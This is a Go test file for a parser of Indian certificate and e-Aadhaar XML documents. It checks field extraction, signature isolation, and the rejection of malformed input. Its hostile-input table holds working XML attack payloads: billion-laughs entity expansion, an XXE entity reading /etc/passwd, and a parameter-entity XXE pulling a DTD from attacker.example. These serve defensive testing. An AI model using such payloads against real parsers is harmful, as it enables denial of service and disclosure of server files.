package certxml

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// readTestdata returns the contents of testdata/name.
func readTestdata(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestParseCertificate(t *testing.T) {
	tests := []struct {
		name string
		xml  string
		want Certificate
	}{
		{"the generic-structure sample gives its attributes and holder", string(readTestdata(t, "pan_certificate.xml")),
			Certificate{Type: "PANCR", Number: "ABCDE1234F", Status: "A", IssueDate: "17-08-2021",
				Holder: Person{Name: "SUNIL KUMAR", DOB: "31-12-1970", Gender: "M"}}},
		{"an expiring certificate gives its expiry date", `<Certificate type="DRVLC" number="DL0120230100001" status="A" expiryDate="08-01-2043" issueDate="09-01-2023"/>`,
			Certificate{Type: "DRVLC", Number: "DL0120230100001", Status: "A", ExpiryDate: "08-01-2043", IssueDate: "09-01-2023"}},
		{"a certificate without IssuedTo has no holder", `<Certificate type="INCER" number="1"><IssuedBy><Organization name="X"/></IssuedBy></Certificate>`,
			Certificate{Type: "INCER", Number: "1"}},
		{"a Person outside IssuedTo is not the holder", `<Certificate><IssuedBy><Person name="Registrar"/></IssuedBy><CertificateData><IssuedTo><Person name="Other"/></IssuedTo></CertificateData></Certificate>`,
			Certificate{}},
		{"escaped characters in a name are decoded", `<Certificate><IssuedTo><Person name="D&apos;Souza &amp; &#x915;&lt;&quot;" dob="01/02/1990" gender="F"/></IssuedTo></Certificate>`,
			Certificate{Holder: Person{Name: `D'Souza & क<"`, DOB: "01/02/1990", Gender: "F"}}},
		{"values are kept as the document writes them", `<Certificate number=" ab 12 " status=" R "><IssuedTo><Person name="  Sunil  " gender="MALE"/></IssuedTo></Certificate>`,
			Certificate{Number: " ab 12 ", Status: " R ", Holder: Person{Name: "  Sunil  ", Gender: "MALE"}}},
		{"attributes with other capitals are not read", `<Certificate Number="1" STATUS="A"><IssuedTo><Person Name="X"/></IssuedTo></Certificate>`,
			Certificate{}},
		{"an IssuedTo inside the Signature is not read", `<Certificate><Signature><IssuedTo><Person name="Forged"/></IssuedTo></Signature></Certificate>`,
			Certificate{}},
		{"an XML declaration, comments and processing instructions are fine", "<?xml version=\"1.0\"?>\n<!-- c --><?pi x?><Certificate number=\"7\"/>\n",
			Certificate{Number: "7"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseCertificate([]byte(tt.xml))
			if err != nil {
				t.Fatalf("got error %v, want none", err)
			}
			if got != tt.want {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestParseCertificateRefuses(t *testing.T) {
	tests := []struct {
		name, xml, want string
	}{
		{"a root other than Certificate", `<Document><IssuedTo/></Document>`, "want <Certificate>"},
		{"a root Certificate in other capitals", `<certificate/>`, "want <Certificate>"},
		{"two holders", `<Certificate><IssuedTo><Person name="A"/><Person name="B"/></IssuedTo></Certificate>`, "more than one IssuedTo/Person"},
		{"two IssuedTo", `<Certificate><IssuedTo><Person name="A"/></IssuedTo><IssuedTo><Person name="B"/></IssuedTo></Certificate>`, "more than one IssuedTo/Person"},
	}
	for _, tt := range tests {
		t.Run("a certificate with "+tt.name+" is refused", func(t *testing.T) {
			_, err := ParseCertificate([]byte(tt.xml))
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("got error %v, want one saying %q", err, tt.want)
			}
		})
	}
}

func TestParseEAadhaar(t *testing.T) {
	tests := []struct {
		name string
		xml  string
		want EAadhaar
	}{
		{"the e-Aadhaar sample gives the masked uid and the Poi", string(readTestdata(t, "eaadhaar.xml")),
			EAadhaar{UID: "xxxxxxxx4321", Holder: Person{Name: "Sunil Kumar", DOB: "31-12-1970", Gender: "M"}}},
		{"a bare UidData root is read", `<UidData uid="xxxxxxxx1234"><Poi name="Puja Sharma" dob="1990" gender="F"/></UidData>`,
			EAadhaar{UID: "xxxxxxxx1234", Holder: Person{Name: "Puja Sharma", DOB: "1990", Gender: "F"}}},
		{"UidData without Poi has no holder", `<KycRes><UidData uid="xxxxxxxx1234"/></KycRes>`, EAadhaar{UID: "xxxxxxxx1234"}},
		{"a Poi outside UidData is not read", `<KycRes><Poi name="Other"/><UidData uid="1"><Poa><Poi name="Nested"/></Poa></UidData></KycRes>`, EAadhaar{UID: "1"}},
		{"a UidData inside the Signature is not read", `<Certificate><Signature><UidData uid="forged"/></Signature><UidData uid="real"/></Certificate>`, EAadhaar{UID: "real"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseEAadhaar([]byte(tt.xml))
			if err != nil {
				t.Fatalf("got error %v, want none", err)
			}
			if got != tt.want {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestParseEAadhaarRefuses(t *testing.T) {
	tests := []struct {
		name, xml, want string
	}{
		{"no UidData", `<Certificate><CertificateData><KycRes/></CertificateData></Certificate>`, "no UidData"},
		{"a UidData only inside the Signature", `<Certificate><Signature><UidData uid="forged"/></Signature></Certificate>`, "no UidData"},
		{"UidData in other capitals only", `<KycRes><uiddata uid="1"/></KycRes>`, "no UidData"},
		{"two UidData", `<KycRes><UidData uid="1"/><UidData uid="2"/></KycRes>`, "more than one UidData"},
		{"two Poi", `<UidData uid="1"><Poi name="A"/><Poi name="B"/></UidData>`, "more than one Poi"},
	}
	for _, tt := range tests {
		t.Run("an e-Aadhaar with "+tt.name+" is refused", func(t *testing.T) {
			_, err := ParseEAadhaar([]byte(tt.xml))
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("got error %v, want one saying %q", err, tt.want)
			}
		})
	}
}

// nested returns a Certificate whose holder sits under depth elements in
// all.
func nested(depth int) string {
	inner := depth - 3 // Certificate, IssuedTo, Person
	return `<Certificate><IssuedTo><Person name="SUNIL KUMAR">` + strings.Repeat("<a>", inner) + strings.Repeat("</a>", inner) + `</Person></IssuedTo></Certificate>`
}

// hostile are documents every reader refuses, with what the error says.
var hostile = []struct {
	name, xml, want string
}{
	{"a billion-laughs document", `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Certificate number="&lol3;"><IssuedTo><Person name="&lol3;"/></IssuedTo><UidData uid="&lol3;"/></Certificate>`, "DOCTYPE or ENTITY"},
	{"an XXE document", `<?xml version="1.0"?>
<!DOCTYPE Certificate [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Certificate number="&xxe;"><UidData uid="&xxe;"/></Certificate>`, "DOCTYPE or ENTITY"},
	{"a parameter-entity XXE document", `<!DOCTYPE Certificate [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><Certificate/>`, "DOCTYPE or ENTITY"},
	{"an undeclared entity", `<Certificate><IssuedTo><Person name="&SUNIL;"/></IssuedTo><UidData/></Certificate>`, "entity reference"},
	{"nesting past MaxDepth", nested(MaxDepth + 1), "more than 32 deep"},
	{"more than MaxBytes", `<Certificate><UidData/>` + strings.Repeat(" ", MaxBytes) + `</Certificate>`, "more than the 1048576-byte limit"},
	{"two root elements", `<Certificate/><Certificate/>`, "more than one root"},
	{"text after the root", `<Certificate><UidData/></Certificate>SUNIL`, "text outside"},
	{"an unclosed element", `<Certificate><UidData>`, "not well-formed"},
	{"mismatched tags", `<Certificate><UidData></Certificate>`, "not well-formed"},
	{"an unsupported encoding", `<?xml version="1.0" encoding="ISO-8859-1"?><Certificate/>`, "not well-formed"},
	{"nothing", ``, "no root element"},
	{"plain text", `SUNIL KUMAR`, "text outside"},
}

// readers are the package's entry points that read a document.
var readers = []struct {
	name string
	read func([]byte) error
}{
	{"ParseCertificate", func(b []byte) error { _, err := ParseCertificate(b); return err }},
	{"ParseEAadhaar", func(b []byte) error { _, err := ParseEAadhaar(b); return err }},
	{"Verify", func(b []byte) error { return testVerifier(nil, "issuer_cert.pem").Verify(b) }},
	{"Sign", func(b []byte) error { _, err := testSigner(nil, "issuer").Sign(b); return err }},
}

func TestHostileDocumentsAreRefused(t *testing.T) {
	for _, r := range readers {
		for _, tt := range hostile {
			t.Run(r.name+" refuses "+tt.name, func(t *testing.T) {
				err := r.read([]byte(tt.xml))
				if err == nil || !strings.Contains(err.Error(), tt.want) {
					t.Fatalf("got error %v, want one saying %q", err, tt.want)
				}
				if errors.Is(err, ErrUnsigned) || strings.Contains(err.Error(), "SUNIL") || strings.Contains(err.Error(), "passwd") {
					t.Errorf("got error %q, want one that neither calls it unsigned nor repeats its values", err)
				}
			})
		}
	}
}

func TestNestingUpToMaxDepthIsRead(t *testing.T) {
	got, err := ParseCertificate([]byte(nested(MaxDepth)))
	if err != nil {
		t.Fatalf("got error %v for a document %d deep, want none", err, MaxDepth)
	}
	if got.Holder.Name != "SUNIL KUMAR" {
		t.Errorf("got holder %q, want SUNIL KUMAR", got.Holder.Name)
	}
}

func TestADocumentOfMaxBytesIsRead(t *testing.T) {
	doc := `<Certificate number="1"></Certificate>`
	b := []byte(doc[:len(doc)-len("</Certificate>")] + strings.Repeat(" ", MaxBytes-len(doc)) + "</Certificate>")
	if got, err := ParseCertificate(b); err != nil || got.Number != "1" {
		t.Errorf("got %+v, %v for a document of exactly MaxBytes, want number 1 and no error", got, err)
	}
}
